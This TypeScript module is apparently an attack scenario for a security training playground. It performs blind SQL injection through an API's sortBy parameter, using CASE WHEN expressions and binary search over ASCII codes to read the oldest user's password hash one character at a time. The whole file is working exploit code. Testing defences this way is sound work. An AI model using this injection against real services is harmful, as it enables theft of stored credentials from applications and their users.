import type { Attack, AttackProgress } from '../../../runtime/attack/attack.ts';
import type { HttpResponse } from '../../../runtime/playground.ts';

/** A bcrypt hash has 60 characters, all between '$' (36) and 'z' (122). */
const hashLength = 60;
const lowest = 36;
const highest = 122;

/** No quotes anywhere: escaping them would not have helped. */
const victimsHash = '(select password_hash from users order by created_at limit 1)';

/** Ways to put a condition where a column name belongs: alone, or behind something that looks allowed. */
const disguises = [
  (condition: string) => `(case when ${condition} then created_at end),name`,
  (condition: string) => `name is null,(case when ${condition} then created_at end),name`,
  (condition: string) => `created_at is null,(case when ${condition} then created_at end),name`,
];

/** What the attacker sees: the order of the rows, and nothing else. */
function orderOfRows(response: HttpResponse): string {
  return `${response.status} ${response.body}`;
}

/**
 * Reads the oldest account's password hash through the order of rows. First it looks for a way to make the
 * order depend on a condition; then each request answers one yes-or-no question about one character.
 */
const attack: Attack = async function* (send) {
  let requests = 0;
  let stolen = '';

  const ask = async (sortBy: string) => {
    requests += 1;
    const response = await send({
      method: 'GET',
      path: `/api/users?limit=2&sortBy=${encodeURIComponent(sortBy)}`,
    });
    return orderOfRows(response);
  };
  const progress = (step: string): AttackProgress => ({ requests, stolen, length: hashLength, step });

  for (const disguise of disguises) {
    yield progress('Looking for an order that depends on a condition');
    const whenTrue = await ask(disguise('1=1'));
    const whenFalse = await ask(disguise('1=0'));
    if (whenTrue === whenFalse) continue;

    while (stolen.length < hashLength) {
      let low = lowest;
      let high = highest;
      while (low < high) {
        const middle = Math.floor((low + high) / 2);
        const character = `ascii(substr(${victimsHash},${stolen.length + 1},1))`;
        const answer = await ask(disguise(`${character}>${middle}`));
        if (answer === whenTrue) low = middle + 1;
        else high = middle;
      }
      stolen += String.fromCharCode(low);
      yield progress(`Reading character ${stolen.length} of ${hashLength}`);
    }
    return { ...progress('Read a password hash through the order of rows'), outcome: 'succeeded' };
  }

  return { ...progress('No order of rows depends on what the client invents'), outcome: 'repelled' };
};

export default attack;
